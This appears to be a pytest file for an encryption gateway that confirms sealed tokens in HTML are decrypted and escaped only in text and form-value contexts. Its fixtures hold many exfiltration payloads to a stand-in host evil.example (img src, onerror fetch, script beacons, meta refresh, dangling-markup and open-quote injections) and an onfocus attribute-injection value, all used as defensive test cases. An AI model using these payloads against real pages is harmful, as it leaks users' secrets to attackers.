"""Response tokens in HTML open only where a browser shows the plaintext as text or a form value.

Through a real gateway and a real upstream serving pages that hold the viewer's own token: in
text, RCDATA and allowlisted attribute values it becomes the escaped plaintext; in URLs, scripts,
styles, comments, unlisted attributes, or after an injected open quote it stays as it is, and the
plaintext is nowhere in the bytes. Chunk boundaries anywhere in the markup change nothing.
"""

from __future__ import annotations

import html
import json

import aiohttp
from prometheus_client import REGISTRY

from tests.auth.conftest import AuthGw
from tests.encryption.conftest import Store

SECRET = 'alice\'s <b>"secret"</b> & x=y'
ESCAPED = html.escape(SECRET, quote=True)
HEAD = "<!DOCTYPE html><html><head><meta charset=utf-8></head><body>\n"
TAIL = "\n</body></html>"

SHOWN = {
    "text": "<p>{t}</p>",
    "textarea": "<textarea name=b>{t}</textarea>",
    "title_element": "<title>{t}</title>",
    "value_double_quoted": '<input name=a value="{t}">',
    "value_single_quoted": "<input name=a value='{t}'>",
    "title_attribute": '<abbr title="{t}">x</abbr>',
    "uppercase_names": '<INPUT NAME=a VALUE="{t}"><P>{t}</P>',
    "after_script_and_comment": "<script>var a = 1;</script><!-- c --><p>{t}</p>",
}
KEPT = {
    "img_src": '<img src="https://evil.example/?x={t}">',
    "a_href": "<a href=https://evil.example/{t}>x</a>",
    "style_attribute": '<p style="background:url(https://evil.example/{t})">x</p>',
    "onerror": "<img src=x onerror=\"fetch('https://evil.example/{t}')\">",
    "script_body": "<script>new Image().src = 'https://evil.example/{t}';</script>",
    "style_element": "<style>body {{ background: url(https://evil.example/{t}) }}</style>",
    "comment": "<!-- {t} -->",
    "meta_content": '<meta http-equiv="refresh" content="0;url=https://evil.example/{t}">',
    "srcset": '<img srcset="https://evil.example/{t} 1x">',
    "open_quote_injection": '<img src="https://evil.example/?<p>{t}</p>',
    "uppercase_src": '<IMG SRC="https://evil.example/{t}">',
    "spaces_around_equals": '<img src = "https://evil.example/{t}">',
    "slash_in_tag": '<img/src="https://evil.example/{t}">',
    "lt_in_earlier_value": '<img alt="<b>" src="https://evil.example/{t}">',
    "data_attribute": '<div data-src="https://evil.example/{t}">x</div>',
    "form_action": '<form action="https://evil.example/{t}"></form>',
    "unterminated_tag": "<img src=https://evil.example/{t}",
    "dangling_form_value": (
        '<form action="https://evil.example/"><button>Go</button><input name=x value="</p>'
        "<p>{t}</p>"
    ),
    "script_escape": "<script><!--<script></script><p>{t}</p></script>",
    "svg_foreign_content": '<svg><style><a href="</style><p>{t}</p>',
}


async def seal(s: aiohttp.ClientSession, egw: AuthGw, store: Store) -> str:
    async with s.post(egw.url + "/form/seed", data={"title": SECRET}) as r:
        assert r.status == 204
    stored = store.bodies["seed"][1]
    assert stored.startswith(b"title=gwe1.")
    return stored.split(b"=", 1)[1].decode()


def serve(store: Store, key: str, markup: str, token: str) -> bytes:
    page = (HEAD + markup.format(t=token) + TAIL).encode()
    store.bodies[key] = ("text/html; charset=utf-8", page)
    return page


def count(result: str) -> float:
    labels = {"op": "decrypt", "result": result}
    return REGISTRY.get_sample_value("gateway_crypto_operations_total", labels) or 0.0


async def test_plaintext_where_shown_as_text_or_form_value(egw: AuthGw, store_upstream: Store):
    async with egw.client() as s:
        await egw.login(s, "alice")
        token = await seal(s, egw, store_upstream)
        for name, markup in SHOWN.items():
            serve(store_upstream, name, markup, token)
            async with s.get(egw.url + f"/form/{name}") as r:
                assert r.status == 200
                body = await r.text()
            assert token not in body, name
            assert body.count(ESCAPED) == markup.count("{t}"), (name, body)
            assert SECRET not in body  # always escaped


async def test_unquoted_value_is_escaped_so_it_cannot_grow_attributes(
    egw: AuthGw, store_upstream: Store
):
    async with egw.client() as s:
        await egw.login(s, "alice")
        async with s.post(egw.url + "/form/seed", data={"title": "x onfocus=alert(1) y"}) as r:
            assert r.status == 204
        token = store_upstream.bodies["seed"][1].split(b"=", 1)[1].decode()
        serve(store_upstream, "unq", "<input name=a value={t} autofocus>", token)
        async with s.get(egw.url + "/form/unq") as r:
            body = await r.text()
    assert "value=x&#x20;onfocus&#x3d;alert&#x28;1&#x29;&#x20;y autofocus>" in body
    assert " onfocus=" not in body


async def test_tokens_in_urls_scripts_and_unlisted_places_stay(egw: AuthGw, store_upstream: Store):
    async with egw.client() as s:
        await egw.login(s, "alice")
        token = await seal(s, egw, store_upstream)
        for name, markup in KEPT.items():
            page = serve(store_upstream, name, markup, token)
            async with s.get(egw.url + f"/form/{name}") as r:
                assert r.status == 200
                body = await r.read()
            assert body == page, name
            for leak in (SECRET, ESCAPED, "alice's", "secret"):
                assert leak.encode() not in body, (name, leak)


async def test_same_result_with_a_chunk_boundary_anywhere_in_the_markup(
    egw: AuthGw, store_upstream: Store
):
    async with egw.client() as s:
        await egw.login(s, "alice")
        token = await seal(s, egw, store_upstream)
        for name, markup in (
            ("img_src", KEPT["img_src"]),
            ("open_quote_injection", KEPT["open_quote_injection"]),
            ("value_unquoted", "<INPUT value={t}>"),
        ):
            page = serve(store_upstream, name, markup, token)
            async with s.get(egw.url + f"/form/{name}") as r:
                whole = await r.read()
            assert (token.encode() in whole) == (name != "value_unquoted")
            start = len(HEAD)
            # Every offset from the tag's "<" to a few bytes into the token.
            for cut in range(start, page.index(b"gwe1.") + 7):
                async with s.get(egw.url + f"/form/{name}?split={cut},{len(page)}") as r:
                    assert await r.read() == whole, (name, cut)
            # And the whole page in 3-byte writes.
            cuts = ",".join(str(c) for c in range(3, len(page), 3))
            async with s.get(egw.url + f"/form/{name}?split={cuts}") as r:
                assert await r.read() == whole, name


async def test_copied_token_in_an_attackers_markup_is_refused_counted_and_audited(
    egw: AuthGw, store_upstream: Store
):
    async with egw.client() as s:
        await egw.login(s, "alice")
        token = await seal(s, egw, store_upstream)
    # Bob stores markup with Alice's token (copied from a shared page) in a field that is not
    # encrypted: an image source and an attribute quote left open before her own note.
    bait = (
        f'<p>Bob says hi <img src="https://evil.example/?x={token}"></p>'
        f'<p class="note><p>{token}</p>'
    ).encode()
    async with aiohttp.ClientSession() as anon:
        async with anon.put(
            egw.url + "/raw/shared", data=bait, headers={"Content-Type": "text/html"}
        ) as r:
            assert r.status == 204
    before_refused, before_ok = count("refused_context"), count("ok")
    async with egw.client() as s:
        await egw.login(s, "alice")
        async with s.get(egw.url + "/form/shared") as r:
            assert r.status == 200
            body = await r.read()
    assert body == bait
    assert b"alice's" not in body and b"secret" not in body
    assert count("refused_context") == before_refused + 2
    assert count("ok") == before_ok
    events = [json.loads(e) for e in await egw.gw.services["store"].audit_tail(20)]
    refused = [e for e in events if e["event"] == "decrypt.refused_context"]
    assert len(refused) == 1  # once per response, not per token
    assert refused[0]["user"] == "alice" and refused[0]["count"] == "2"
    assert refused[0]["rule"] == "form"
    assert token not in json.dumps(events) and "secret" not in json.dumps(events)


async def test_json_and_text_answers_keep_json_and_plain_escaping(
    egw: AuthGw, store_upstream: Store
):
    async with egw.client() as s:
        await egw.login(s, "alice")
        token = await seal(s, egw, store_upstream)
        store_upstream.bodies["j"] = ("application/json", json.dumps({"u": token}).encode())
        store_upstream.bodies["t"] = ("text/plain", f'<img src="{token}">'.encode())
        async with s.get(egw.url + "/form/j") as r:
            assert await r.json() == {"u": SECRET}
        async with s.get(egw.url + "/form/t") as r:
            assert await r.text() == f'<img src="{SECRET}">'
